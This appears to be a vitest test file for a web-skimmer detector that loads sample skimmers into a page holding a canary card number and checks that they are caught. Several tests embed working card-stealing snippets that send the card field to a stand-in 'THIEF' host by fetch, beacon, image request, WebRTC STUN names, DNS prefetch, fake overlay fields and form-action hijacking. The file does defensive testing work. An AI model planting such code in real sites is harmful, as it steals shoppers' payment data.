import { deep } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { together } from '../together.ts'
import { browser, shareBrowser } from './shared-browser.ts'
import { foundByContent } from './skimmers.ts'
import { cardForm, watchPage } from './watch-page.ts'

shareBrowser()

describe('a skimmer', () => {
  it.each(together(foundByContent))('that uses %s is found with its script and its encoding', async (_names, skimmers) => {
    const { canary, each, behaviours } = await watchPage(browser, { skimmers: skimmers.map(([, { skimmer }]) => skimmer) })
    const told = skimmers.map(([name, { where, encoding }], at) => {
      const { host, scripts } = each[at]!
      const sighting = canary.sightings.find((one) => one.value === 'card' && one.host === host && one.where === where)
      const isReader = behaviours.some((one) => scripts.has(one.scriptId ?? '') && /^(reads|listens)-/.test(one.kind))
      return [name, sighting && (encoding ? sighting.encoding : null), scripts.has(sighting?.scriptId ?? ''), isReader]
    })
    expect(told).toEqual(skimmers.map(([name, { encoding }]) => [name, encoding, true, true]))
  })

  it.runIf(deep)('that sets a handler attribute is found by the handler that it set', async () => {
    const skimmer = `document.getElementById('card').setAttribute('onchange', "new Image().src='http://THIEF/h?d='+this.value")`
    const { canary, capture, thiefHost, behaviours } = await watchPage(browser, { skimmer })
    const handler = capture.scripts.find((one) => one.kind === 'handler')
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, scriptId: handler?.id }))
    expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'reads-field', fieldKind: 'card-number', scriptId: handler?.id }))
  })

  it.runIf(deep)('that encrypts its loot is seen reading the card and contacting its host', async () => {
    const skimmer = `document.getElementById('card').addEventListener('change', async function take() {
      const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']).catch(() => null);
      const noise = [...this.value].map((c) => (c.charCodeAt(0) * 7919 + Math.floor(Math.random() * 1e6)) % 9973).join('.');
      fetch('http://THIEF/a', { method: 'POST', mode: 'no-cors', body: noise + (key ? '' : '') }) })`
    const { behaviours, canary, thieves, thiefHost } = await watchPage(browser, { skimmer })
    expect(canary.sightings.filter(({ host }) => host === thiefHost)).toEqual([])
    const ofThief = behaviours.filter((one) => one.scriptId !== null && thieves.has(one.scriptId))
    expect(ofThief).toContainEqual(expect.objectContaining({ kind: 'reads-field', fieldKind: 'card-number', evidence: 'breakpoint' }))
    expect(ofThief).toContainEqual(expect.objectContaining({ kind: 'sends-fetch', target: thiefHost }))
  })

  it.runIf(deep)('that keeps its loot until the shopper leaves is found by the guard alone', async () => {
    const skimmer = `addEventListener('pagehide', function bye() { navigator.sendBeacon('http://THIEF/bye', btoa(document.getElementById('card').value)) })`
    const { canary, thiefHost, atThief } = await watchPage(browser, { skimmer })
    expect(atThief.filter((line) => line.startsWith('POST /bye'))).toEqual([])
    expect(canary.sightings).toContainEqual(
      expect.objectContaining({ value: 'card', host: thiefHost, phase: 'leave', encoding: ['base64'], blocked: true }),
    )
  })

  it.runIf(deep)('that hides its loot in the name of a STUN server is found in the call', async () => {
    const skimmer = `document.getElementById('card').addEventListener('change', function rtc() {
      const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + this.value + '.thief.example:3478' }] }); p.createDataChannel('x') })`
    const { canary, behaviours, thieves } = await watchPage(browser, { skimmer })
    const sighting = canary.sightings.find((one) => one.where === 'webrtc')
    expect(sighting).toMatchObject({ value: 'card', blocked: true })
    expect(thieves).toContain(sighting?.scriptId)
    expect(behaviours.some((one) => one.kind === 'sends-rtc' && thieves.has(one.scriptId ?? ''))).toBe(true)
  })

  it.runIf(deep)('that hides its loot in a name to look up early is found in the page', async () => {
    const skimmer = `document.getElementById('card').addEventListener('change', function dns() {
      const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//' + this.value + '.thief.example'; document.head.append(l) })`
    const { canary } = await watchPage(browser, { skimmer })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', where: 'dns' }))
  })

  it.runIf(deep)('that lays its own fields over the real ones is given the canary and named as their maker', async () => {
    const skimmer = `const box = document.createElement('div'); box.style.cssText = 'position:absolute;left:0;top:60px;width:100%;background:#fff;z-index:9';
      box.innerHTML = '<input id=fake name=cc-number placeholder="1234 1234 1234 1234">'; document.body.append(box);
      document.getElementById('fake').addEventListener('input', function f() { if (this.value.length > 15) fetch('http://THIEF/o', { method: 'POST', mode: 'no-cors', body: this.value }) })`
    const { canary, behaviours, thieves, thiefHost } = await watchPage(browser, { skimmer })
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost }))
    expect(behaviours.some((one) => one.kind === 'inserts-field' && thieves.has(one.scriptId ?? ''))).toBe(true)
  })

  it.runIf(deep)('that replaces a native function or hides a field is named', async () => {
    const skimmer = `const real = HTMLFormElement.prototype.submit; HTMLFormElement.prototype.submit = function () { return real.call(this) };
      const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      Object.defineProperty(document.getElementById('card'), 'value', { get() { return d.get.call(this) }, set(v) { d.set.call(this, v) } })`
    const { behaviours, thieves } = await watchPage(browser, { skimmer })
    const targets = behaviours.filter((one) => one.kind === 'overrides-native' && thieves.has(one.scriptId ?? '')).map((one) => one.target)
    expect(targets).toContain('HTMLFormElement.submit')
    expect(targets.some((target) => target.endsWith('.value'))).toBe(true)
  })

  it.runIf(deep)('that points the form elsewhere is named', async () => {
    const skimmer = `document.getElementById('card').addEventListener('focus', function aim() { document.getElementById('f').action = 'http://THIEF/pay' })`
    const { behaviours, thieves } = await watchPage(browser, { skimmer })
    expect(behaviours.some((one) => one.kind === 'changes-form-action' && thieves.has(one.scriptId ?? ''))).toBe(true)
  })
})

describe('a shop', () => {
  it('that formats the number while it is typed is typed into to the end, nothing of it leaves, and a search beside it is no reader', async () => {
    const shop = `const i = document.getElementById('card'); i.addEventListener('input', function format() {
      i.value = i.value.replace(/\\D/g, '').slice(0, 16).replace(/(.{4})(?=.)/g, '$1 ') })`
    const search = `setInterval(() => document.getElementById('q').value, 50)`
    const body = `<input id=q name=q type=search placeholder="Search products">${cardForm}`
    const { canary, behaviours, capture } = await watchPage(browser, { body, shop, skimmer: search })
    expect(canary.typedInto.map((one) => [one.kind, one.verified])).toEqual([
      ['email', true],
      ['card-number', true],
      ['card-expiry', true],
      ['card-cvc', true],
      ['card-name', true],
    ])
    expect(canary.sightings.filter(({ phase }) => phase !== 'press')).toEqual([])
    const own = capture.scripts.find(({ url }) => url?.endsWith('/shop.js'))?.id
    const reads = behaviours.filter((one) => one.kind === 'reads-field').map(({ scriptId, fieldKind }) => [scriptId, fieldKind])
    expect(reads).toEqual([[own, 'card-number']])
  })

  it.runIf(deep)('that counts visits and does not look at fields has no reading', async () => {
    const { canary, behaviours } = await watchPage(browser, {
      skimmer: `setInterval(() => fetch('http://THIEF/v?t=' + Date.now(), { mode: 'no-cors' }), 3000); document.cookie = 'v=1'`,
    })
    expect(canary.sightings.filter(({ phase }) => phase !== 'press')).toEqual([])
    expect(behaviours.filter((one) => one.kind.startsWith('reads-') && one.kind !== 'reads-cookie')).toEqual([])
    expect(behaviours.some((one) => one.kind === 'sends-fetch')).toBe(true)
  })

  it.runIf(deep)('that submits by itself once the number is complete submits nothing', async () => {
    const shop = `document.getElementById('card').addEventListener('input', function () { if (this.value.length === 16) this.form.submit() })`
    const { canary, atShop, behaviours } = await watchPage(browser, { shop })
    expect(atShop.filter((line) => line.includes('/pay'))).toEqual([])
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', where: 'body', blocked: true }))
    expect(canary.sightings.every((one) => one.blocked)).toBe(true)
    expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'sends-form' }))
  })

  it('with lists for the expiry has a month and a year chosen', async () => {
    const options = (from: number, to: number) =>
      Array.from({ length: to - from + 1 }, (_, at) => `<option value="${from + at}">${String(from + at).padStart(2, '0')}`).join('')
    const body = `<form id=f><input id=card autocomplete=cc-number><select name=exp_month><option value="">Month${options(1, 12)}</select><select name=exp_year><option value="">Year${options(2026, 2036)}</select></form>`
    const { canary } = await watchPage(browser, { body })
    expect(canary.typedInto.map((one) => [one.kind, one.verified])).toEqual([
      ['card-number', true],
      ['card-expiry-month', true],
      ['card-expiry-year', true],
    ])
  })

  it.runIf(deep)(
    'whose fields stand in a frame of another origin has them typed into there, and what the frame sends is attributed',
    async () => {
      const frame = `${cardForm}<script>document.getElementById('card').addEventListener('change', function tok() { fetch('/tokens', { method: 'POST', body: JSON.stringify({ n: this.value }) }) })</script>`
      const { canary, thiefHost, capture } = await watchPage(browser, {
        body: '<iframe src="http://THIEF/frame" width=500 height=300></iframe>',
        thiefPages: { '/frame': frame },
      })
      expect(canary.typedInto.every((one) => one.verified)).toBe(true)
      const sighting = canary.sightings.find((one) => one.value === 'card')
      expect(sighting).toMatchObject({ host: thiefHost, where: 'body' })
      expect(capture.scripts.find((one) => one.id === sighting?.scriptId)?.frameId).not.toBe(
        capture.frames.find((one) => one.parentId === null)?.id,
      )
    },
  )

  it('does not notice that it is watched and typed into, and is listed with its own scripts only', async () => {
    const shop = `const seen = new Set(Object.getOwnPropertyNames(window)), card = document.getElementById('card');
      const tell = (what) => fetch('/noticed?' + what), value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      for (const [owner, name] of [[HTMLInputElement, 'name'], [HTMLInputElement, 'type'], [HTMLInputElement, 'form'], [Element, 'id'], [Node, 'parentNode']]) {
        const real = Object.getOwnPropertyDescriptor(owner.prototype, name);
        if (real) Object.defineProperty(owner.prototype, name, { ...real, get() { tell('read-' + name); return real.get.call(this) } }) }
      for (const name of ['getAttribute', 'setAttribute']) { const real = Element.prototype[name]; Element.prototype[name] = function (...a) { tell(name); return real.apply(this, a) } }
      Object.defineProperty(Object.prototype, 'n', { set() { tell('note') }, configurable: true });
      card.addEventListener('keydown', (e) => { if (!e.isTrusted) tell('untrusted') });
      card.addEventListener('change', () => fetch('/alive'));
      setInterval(function look() {
        for (const name of Object.getOwnPropertyNames(window)) if (!seen.has(name)) { seen.add(name); tell(name) }
        if (Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get !== value.get) tell('getter')
        if (Reflect.ownKeys(card).length > 0) tell('field') }, 500)`
    const skimmer = `document.getElementById('card').addEventListener('input', () => {})`
    const { atShop, behaviours, canary, capture } = await watchPage(browser, { shop, skimmer })
    expect(canary.typedInto.length).toBeGreaterThan(3)
    expect(capture.scripts.map(({ kind }) => kind)).toEqual(['external', 'external'])
    expect(atShop.some((line) => line.includes('/alive'))).toBe(true)
    expect(atShop.filter((line) => line.includes('/noticed'))).toEqual([])
    expect(behaviours.some((one) => one.kind === 'overrides-native')).toBe(true)
  })

  it('that reads its fields without end and stops the debugger is still typed into to the end', async () => {
    const shop = `setInterval(() => { for (let i = 0; i < 200; i++) document.getElementById('card').value }, 1); setInterval(() => { debugger }, 50)`
    const { canary, behaviours, capture } = await watchPage(browser, { shop })
    expect(canary.typedInto.every((one) => one.verified)).toBe(true)
    expect(behaviours).toContainEqual(expect.objectContaining({ kind: 'reads-field', fieldKind: 'card-number' }))
    expect(capture.outcome.issues).toEqual([])
  })
})
